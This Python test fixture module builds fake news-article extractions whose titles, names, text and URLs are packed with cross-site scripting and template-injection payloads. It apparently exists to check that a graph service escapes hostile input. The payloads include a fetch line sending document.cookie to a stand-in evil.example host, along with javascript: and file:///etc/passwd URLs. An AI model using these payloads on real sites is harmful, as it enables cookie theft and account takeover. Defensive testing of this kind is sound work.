"""Articles whose every part tries to run something in the reader's browser."""

from datetime import date

from graph_service.ids import article_id, entity_id
from graph_service.models import Article, Entity, EntityType, Extraction, Party, Statement, Target
from tests.handmade import EXTRACTOR, entity, said

_RUN = "xssed({number})"
_TEMPLATES = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<img src=x onerror={run}>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg/onload={run}//",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src='javascript:parent.{run}'>",
    "<a href='javascript:{run}'>x</a>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}>",
    "<audio src=x onerror={run}>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<style>@import 'http://evil.example/';</style><script>{run}</script>",
    "<link rel=stylesheet href=http://evil.example/x.css onload={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=http://evil.example/><script>{run}</script>",
    "<object data='javascript:{run}'>",
    "<embed src='javascript:{run}'>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<textarea></textarea><script>{run}</script>",
    "<title></title><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<noscript><img src=x onerror={run}></noscript>",
    "<template><script>{run}</script></template>",
    "<marquee onstart={run}>",
    '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "' onmouseover='{run}' autofocus onfocus='{run}' x='",
    "` onerror=`{run}`",
    "{{{{ self.__init__.__globals__ }}}} <script>{run}</script>",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{run}{{% endfor %}}",
    "${{{run}}}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\u202e<script>{run}</script>",
    "<scr\u0000ipt>{run}</scr\u0000ipt>".replace("\u0000", ""),
    "<script src=http://evil.example/x.js></script>{run}",
    "<img src='http://evil.example/pixel.gif' onerror={run}>",
    "<p style='background:url(http://evil.example/x)' onclick={run}>",
    "<button popovertarget=x onclick={run}>x</button>",
    "<select autofocus onfocus={run}>",
    "<xss contenteditable onbeforeinput={run} autofocus tabindex=1 onfocus={run}>",
    "<object type=text/html data='data:text/html,<script>parent.{run}</script>'>",
    "<animate onbegin={run} attributeName=x>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<script>fetch('http://evil.example/?' + document.cookie);{run}</script>",
)
#: each would run ``xssed`` with its number where it is taken for HTML
PAYLOADS = tuple(each.format(run=_RUN.format(number=number)) for number, each in enumerate(_TEMPLATES))
#: addresses that no link may lead to
BAD_URLS = (
    "javascript:xssed(1)",
    "JaVaScRiPt:xssed(2)",
    " javascript:xssed(3)",
    "java\tscript:xssed(4)",
    "java\nscript:xssed(5)",
    "\x01javascript:xssed(6)",
    "data:text/html,<script>parent.xssed(7)</script>",
    "vbscript:xssed(8)",
    "file:///etc/passwd",
    "//evil.example/",
    "http:\n//evil.example",
    "blob:http://evil.example/1",
)


_TOGETHER = 4


def hostile() -> list[Extraction]:
    """Articles with a few payloads each: in title, outlet and text, in names, and an address that is one."""
    numbered = list(enumerate(PAYLOADS))
    return [_extraction(numbered[at : at + _TOGETHER]) for at in range(0, len(numbered), _TOGETHER)]


def _extraction(numbered: list[tuple[int, str]]) -> Extraction:
    first = numbered[0][0] // _TOGETHER
    url, together = BAD_URLS[first % len(BAD_URLS)], " ".join(payload for _, payload in numbered)
    lines = (
        f'"We {payload} it {number}," Mallory {number} {payload} told Trent {number} {payload}.'
        for number, payload in numbered
    )
    text = "\n".join((together, *lines, together, ""))
    article = Article(
        id=article_id(url + str(first), text),
        url=url,
        text=text,
        title=together,
        outlet=f"Gazette {together}",
        published_at=date(2030, 1, 1 + first),
    )
    parts = [_said(article, number, payload) for number, payload in numbered]
    entities = tuple(each for _, *both in parts for each in both)
    return Extraction(
        article=article, extractor=EXTRACTOR, entities=entities, statements=tuple(statement for statement, *_ in parts)
    )


def _said(article: Article, number: int, payload: str) -> tuple[Statement, Entity, Entity]:
    mallory = entity(article, f"Mallory {number} {payload}", EntityType.PERSON)
    trent = entity(article, f"Trent {number} {payload}", EntityType.ORGANISATION)
    statement = said(
        article,
        f"We {payload} it {number},",
        "told",
        speaker=mallory.id,
        targets=(Target(entity=trent.id, rank=1),),
        addressees=(Party(text=trent.name, entity=trent.id),),
    )
    return statement, mallory, trent


def _mallory(number: int) -> str:
    return entity_id(EntityType.PERSON, f"Mallory {number} {PAYLOADS[number]}")


#: somebody who was judged to be another one
MERGED = (_mallory(1), _mallory(0))
